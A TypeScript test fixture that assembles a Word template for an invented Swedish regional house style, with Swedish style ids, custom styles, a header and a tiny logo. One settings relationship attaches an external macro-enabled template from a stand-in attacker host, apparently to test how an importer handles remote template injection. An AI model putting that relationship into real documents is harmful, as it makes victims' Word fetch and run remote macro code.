/** A template of an invented house, as Swedish Word saves one: built-in styles under Swedish ids, some of its own by name. */
import { fixedZip } from '../../../../server/draw/documents/fixedZip.js';

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const types = 'application/vnd.openxmlformats-officedocument.wordprocessingml.';

export const houseStyles = [
  '<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/><w:rPr><w:lang w:val="en-US"/></w:rPr></w:style>',
  '<w:style w:type="table" w:default="1" w:styleId="Normaltabell"><w:name w:val="Normal Table"/></w:style>',
  '<w:style w:type="paragraph" w:styleId="Rubrik"><w:name w:val="Title"/><w:basedOn w:val="Normal"/></w:style>',
  '<w:style w:type="paragraph" w:styleId="Rubrik1"><w:name w:val="heading 1"/><w:basedOn w:val="Normal"/><w:pPr><w:outlineLvl w:val="0"/></w:pPr></w:style>',
  '<w:style w:type="paragraph" w:customStyle="1" w:styleId="HusetsRubrik2"><w:name w:val="Rubrik 2"/><w:basedOn w:val="Normal"/></w:style>',
  '<w:style w:type="paragraph" w:styleId="Beskrivning"><w:name w:val="caption"/><w:basedOn w:val="Normal"/></w:style>',
  '<w:style w:type="paragraph" w:customStyle="1" w:styleId="Klla"><w:name w:val="Källa"/><w:basedOn w:val="Normal"/></w:style>',
  '<w:style w:type="character" w:styleId="FigureNote"><w:name w:val="Not a paragraph"/></w:style>',
  '<w:style w:type="table" w:customStyle="1" w:styleId="HusetsTabell"><w:name w:val="Husets tabell"/><w:basedOn w:val="Normaltabell"/></w:style>',
];

/** One white dot. */
const logo = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

export const houseParts: Readonly<Record<string, string | Uint8Array>> = {
  '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="${types}template.main+xml"/><Override PartName="/word/styles.xml" ContentType="${types}styles+xml"/><Override PartName="/word/numbering.xml" ContentType="${types}numbering+xml"/><Override PartName="/word/settings.xml" ContentType="${types}settings+xml"/><Override PartName="/word/header1.xml" ContentType="${types}header+xml"/></Types>`,
  '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/officeDocument" Target="word/document.xml"/></Relationships>`,
  'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/styles" Target="styles.xml"/><Relationship Id="rId2" Type="${office}/header" Target="header1.xml"/><Relationship Id="rId3" Type="${office}/settings" Target="settings.xml"/><Relationship Id="rId4" Type="${office}/numbering" Target="numbering.xml"/><Relationship Id="rId5" Type="${office}/customXml" Target="../customXml/item1.xml"/></Relationships>`,
  'word/_rels/header1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/image" Target="media/image1.png"/></Relationships>`,
  'word/document.xml': `<w:document xmlns:w="${word}" xmlns:r="${office}"><w:body><w:p><w:r><w:t>Skriv här</w:t></w:r></w:p><w:sectPr><w:headerReference w:type="default" r:id="rId2"/><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="2000" w:right="2000" w:bottom="2000" w:left="2000" w:header="700" w:footer="700" w:gutter="0"/><w:cols w:num="2"/><w:titlePg/></w:sectPr></w:body></w:document>`,
  'word/styles.xml': `<w:styles xmlns:w="${word}"><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Georgia" w:hAnsi="Georgia"/><w:lang w:val="en-US"/></w:rPr></w:rPrDefault></w:docDefaults>${houseStyles.join('')}</w:styles>`,
  'word/numbering.xml': `<w:numbering xmlns:w="${word}"><w:abstractNum w:abstractNumId="4"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl></w:abstractNum><w:num w:numId="7"><w:abstractNumId w:val="4"/></w:num></w:numbering>`,
  'word/settings.xml': `<w:settings xmlns:w="${word}" xmlns:r="${office}"><w:attachedTemplate r:id="rId1"/><w:documentProtection w:edit="readOnly"/><w:defaultTabStop w:val="1304"/></w:settings>`,
  'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/attachedTemplate" Target="http://attacker.example/x.dotm" TargetMode="External"/></Relationships>`,
  'word/header1.xml': `<w:hdr xmlns:w="${word}" xmlns:r="${office}"><w:p><w:r><w:t>Regionen Sjövik</w:t></w:r></w:p></w:hdr>`,
  'word/media/image1.png': logo,
  'customXml/item1.xml': '<hemligt/>',
};

/** @param changes parts that are otherwise; undefined where there is none */
export function houseTemplate(changes: Readonly<Record<string, string | Uint8Array | undefined>> = {}): Uint8Array {
  const all = Object.entries({ ...houseParts, ...changes });
  return fixedZip(all.flatMap(([path, part]) => (part === undefined ? [] : [{ path, bytes: typeof part === 'string' ? new TextEncoder().encode(part) : part }])));
}
